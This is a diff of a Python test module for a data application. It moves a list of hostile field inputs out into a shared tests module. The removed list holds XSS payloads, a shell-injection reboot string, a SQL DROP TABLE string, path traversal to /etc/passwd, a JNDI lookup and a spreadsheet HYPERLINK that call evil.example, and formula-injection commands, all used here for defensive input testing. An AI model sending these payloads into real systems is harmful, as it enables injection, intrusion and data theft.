@@ -51,6 +51,7 @@ from geo.paths import DATA
 from geo.share import KINDS
 from geo.view import View
 from tests.contributed import SOUND, with_fields
+from tests.hostile.tricks import MUST_NOT_PASS, TRICKS
 from tests.markup import EVIL, Read
 from tests.page_run import markup_of, run_page, widget
 
@@ -58,82 +59,6 @@ if TYPE_CHECKING:
     from collections.abc import Iterable
 
     from tests.hostile.record import Met
-
-TRICKS: Final = (
-    ("markup", EVIL),
-    ("markup", "<script>alert(1)</script>"),
-    ("markup", '"><img src=x onerror=alert(1)>'),
-    ("markup", "<svg/onload=alert(1)>"),
-    ("markup", "</textarea></form><form action=//evil.example>"),
-    ("markup", "<!-- -->]]>"),
-    ("markup", "&lt;script&gt;&#0;"),
-    ("markdown", "[click](javascript:alert(1)) ![x](http://evil.example/x.png)"),
-    ("a template", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>"),
-    ("a template", "{0} {name} {0.__class__.__mro__} %s %n %(x)s"),
-    ("a shell's words", "$(reboot) `reboot`; reboot && reboot | reboot"),
-    ("a query's words", "'; DROP TABLE activities; --"),
-    ("a path", "../../etc/passwd"),
-    ("a look-up", "${jndi:ldap://evil.example/a}"),
-    ("a formula", "=1+1"),
-    ("a formula", '=HYPERLINK("http://evil.example","click")'),
-    ("a formula", "+cmd|' /C calc'!A0"),
-    ("a formula", "-1+1"),
-    ("a formula", "-cmd|' /C calc'!A0"),
-    ("a formula", "@SUM(1,1)"),
-    ("a formula", "\uff1d1+1"),
-    ("a formula", "Radios;=1+1"),
-    ("a formula", 'Radios;"=cmd|A0'),
-    ("a formula", "\t=1+1"),
-    ("a formula", " =1+1"),
-    ("a control character", "a\x00b"),
-    ("a control character", "a\x1b[2Jb"),
-    ("a control character", "a\x07b"),
-    ("a control character", "a\x9bb"),
-    ("a line break", "a\nb"),
-    ("a line break", "a\r\nb,c,d"),
-    ("a line break", "a\u2028b"),
-    ("a turned reading", "a\u202egpj.exe"),
-    ("a turned reading", "a\u2066b\u2069"),
-    ("a turned reading", "a\u200fb"),
-    ("what has no width", "a\u200bb"),
-    ("what has no width", "\ufeffa"),
-    ("what has no width", "a\u00adb"),
-    ("what has no width", "a\U000e0041b"),
-    ("half of a pair", "a\ud800b"),
-    ("no letter", "a\ufffeb\uffff"),
-    ("a letter of nobody's", "a\ue000b"),
-    ("letters that were damaged", "Mé\ufffdrida"),
-    ("letters that were damaged", "MÃ©rida"),
-    ("accents that stand apart", "Me\u0301rida"),
-    ("a heap of accents", "a" + "\u0301" * 500),
-    ("a text without end", "x" * 2_001),
-    ("a text without end", "x" * 60_000),
-    ("a number without end", "9" * 21),
-    ("a number without end", "9" * 5_000),
-    ("an odd number", "1e999"),
-    ("an odd number", "NaN"),
-    ("an odd number", "0x10"),
-    ("an odd number", "\u0663\u0664"),
-    ("an odd number", "-5"),
-    ("an odd number", "1_000"),
-    ("a failed formula", "#REF!"),
-    ("a script's address", "javascript:alert(1)"),
-    ("a script's address", "JaVaScRiPt:alert(1)"),
-    ("a script's address", "data:text/html,<script>alert(1)</script>"),
-    ("an address that misleads", "https://gob.mx@evil.example/"),
-    ("an address that misleads", "https://g\u043eb.mx/a"),
-    ("an address that misleads", "https://evil.example\\@gob.mx/a"),
-    ("an address that misleads", "http://127.0.0.1:8501/a"),
-    ("an address that misleads", "https://[::1/"),
-    ("an address that misleads", 'https://a.example/"onfocus="alert(1)'),
-    ("another scheme", "ftp://example.org/a"),
-    ("another scheme", "file:///etc/passwd"),
-    ("a key of another row", "M001"),
-    ("a word of a program", "null"),
-    ("a word of a program", "__proto__"),
-    ("a list", "a;b;;c"),
-)
-"""What kind of trick → the text that is put into a field."""
 
 PLACES: Final = tuple(
     (part, name) for part in WORDS for name in (field["name"] for field in fields_of(part, DATA))
@@ -149,18 +74,6 @@ FREE: Final = (
     *(("sources", name) for name in ("title", "author", "note")),
 )
 """Fields of the tables that any text may fill."""
-
-
-MUST_NOT_PASS: Final = frozenset(
-    {
-        *("a formula", "a control character", "a line break", "a turned reading", "half of a pair"),
-        *("what has no width", "no letter", "a letter of nobody's", "letters that were damaged"),
-        *("accents that stand apart", "a heap of accents", "a text without end"),
-        "a failed formula",
-    }
-)
-"""Kinds that no field of a table takes, not even one for any text."""
-
 
 ALONE: Final = (("places", "count_unit"), ("activity", "source_ids"))
 """Fields that rules over the rows look at, once what is beside them is sound."""
